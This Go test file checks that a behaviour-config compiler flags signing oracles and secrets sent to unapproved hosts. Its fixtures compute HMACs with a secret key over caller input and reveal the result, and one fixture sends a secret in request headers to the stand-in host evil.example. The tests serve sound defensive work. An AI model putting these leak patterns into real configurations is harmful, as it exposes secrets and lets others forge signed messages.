package behaviors_test

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/deskhook/deskhook/behaviors"
)

// However the secret of an hmac is named, the text of the caller's is come by,
// and the proof is written: whoever may see it could sign what they like.
func TestEverySigningOracle(t *testing.T) {
	c := product(t)
	keys := []string{
		`inputs.key`, `inputs["key"]`, `inputs?.key`, `inputs?.["key"]`, `kept`, `once_more`, `held`, `rebound`, `inputs.key ?? inputs.old`, `nil ?? inputs.key`,
		`held ?? nil`, `payload.x ? inputs.key : nil`, `payload.x ? nil : held`, `payload.x ? kept : held`, `if payload.x { inputs.key } else { inputs.old }`,
		`(let v = inputs.key; v)`, `(let v = held; let w = v; w ?? nil)`, `(1; inputs.key)`, `(let v = inputs; v.key)`,
	}
	texts := []string{
		`payload.x`, `payload["x"]`, `payload.l[0]`, `request.body`, `request.url`, `request.headers["x-a"]`, `request.query.a`, `text`, `told`, `"v0:" + payload.x`, `payload.x ?? "a"`, `"a" ?? payload.x`,
		`true ? payload.x : "a"`, `upper(payload.x)`, `payload.x | trim()`, `toJSON({a: payload.x})`, `join(map(payload.l, # + "a"), "")`, `(let v = payload.x; v)`, `payload.x[1:]`,
		`reduce(payload.l, #acc + #, "")`, `filter(payload.l, # != nil)[0]`, `find(payload.l, true)`, `string([payload.x][0])`, `keys(payload.m)[0]`, `request?.body`, `(1; payload.x)`, `payload | toJSON()`,
	}
	proofs := []string{
		`hex($)`, `base64($)`, `$ | hex()`, `"sha256=" + hex($)`, `{a: hex($)}`, `[hex($)]`, `{a: [{b: hex($)}]}.a[0].b`, `payload.x ? hex($) : nil`, `hex($) ?? "a"`, `upper(hex($))`, `(let v = $; hex(v))`,
		`map([1], hex($))`, `reduce([1], #acc + hex($), "")`, `toJSON({a: base64url($)})`, `hex($)[0:64]`, `{(hex($)): 1}`, `keys({(hex($)): 1})`, `groupBy([1], hex($))`, `if true { hex($) } else { "" }`,
		`split(hex($), "")`, `sha256($)`, `first([hex($)])`, `hex($); hex($)`, `find([hex($)], true)`, `raw(hex($))`, `hex(hmac("sha256", inputs.old, hex($)))`, `hex(hmac("sha256", "known", $))`, `sortBy([hex($)], 1)`,
	}
	reveal := []string{
		`respond: {text: '${{ § }}'}`, `respond: {text: 'a ${{ § }}'}`, `respond: {json: {a: ['${{ § }}']}}`, `respond: {headers: {X-A: 'a ${{ § }}'}}`, `respond: {html: '<p>${{ § }}</p>'}`,
		`respond: {redirect: 'https://a.example/?a=${{ § }}'}`, `slack.post: {webhook: "${{ inputs.old }}", text: '${{ § }}'}`, `slack.post: {webhook: "${{ inputs.old }}", blocks: [{a: '${{ § }}'}]}`,
		`http.request: {url: 'https://api.example.com/${{ § }}'}`, `http.request: {url: https://api.example.com/, headers: {a: '${{ § }}'}}`, `http.request: {url: https://api.example.com/, json: {a: 'b ${{ § }}'}}`,
	}
	want := func(expr string, places ...string) {
		t.Helper()
		var at []place
		for _, p := range places {
			at = append(at, place{key: "steps", text: "  - " + strings.ReplaceAll(p, "§", "§1")})
		}
		d := write(expr, at)
		names := "steps:\n  - let: {told: payload.x}\n"
		d.source = strings.Replace(strings.Replace(d.source, "steps:\n", names, 1), "let:\n", "let:\n  text: payload.x\n", 1)
		_, diagnostics := behaviors.Compile(d.source, c)
		for i, p := range places {
			if !slices.ContainsFunc(diagnostics, func(found behaviors.Diagnostic) bool {
				return found.Code == "signing-oracle" && found.Line == d.lines[i].from+2
			}) {
				t.Errorf("%s\n  at %s: no signing-oracle\n%s", expr, p, diagnostics.Render("behavior.yaml", d.source))
			}
		}
	}
	proof := func(key, text string) string { return `hmac("sha256", ` + key + `, ` + text + `)` }
	written := func(pattern, proof string) string { return strings.ReplaceAll(pattern, "$", proof) }
	for _, key := range keys {
		want(written(proofs[0], proof(key, texts[0])), reveal[0])
	}
	for _, text := range texts {
		want(written(proofs[0], proof(keys[0], text)), reveal[0])
	}
	for _, pattern := range proofs {
		want(written(pattern, proof(keys[0], texts[0])), reveal...)
	}
}

// A name that stands for two others, each of which does so again, is followed
// once: otherwise this would not end.
func TestSecretsBehindNamesThatDouble(t *testing.T) {
	source := "behavior: 1\ninputs: {key: {type: secret, hosts: [api.example.com]}}\nlet:\n  a0: inputs.key\n"
	inline := "let v0 = inputs.key; "
	const names = 60
	for i := range names {
		source += fmt.Sprintf("  a%d: a%d ?? a%d\n", i+1, i, i)
		inline += fmt.Sprintf("let v%d = v%d ?? v%d; ", i+1, i, i)
	}
	source += fmt.Sprintf("steps:\n  - http.request: {url: https://evil.example/, headers: {a: '${{ a%d }}', b: '${{ %sv%d }}'}}\n", names, inline, names)
	source += fmt.Sprintf("  - respond: {text: '${{ hex(hmac(\"sha256\", a%d, payload.x)) }}'}\n", names)
	_, diagnostics := behaviors.Compile(source, product(t))
	var codes []string
	for _, d := range diagnostics {
		codes = append(codes, d.Code)
	}
	if want := []string{"secret-host", "secret-host", "signing-oracle"}; !slices.Equal(codes, want) {
		t.Errorf("got %q, want %q", codes, want)
	}
}
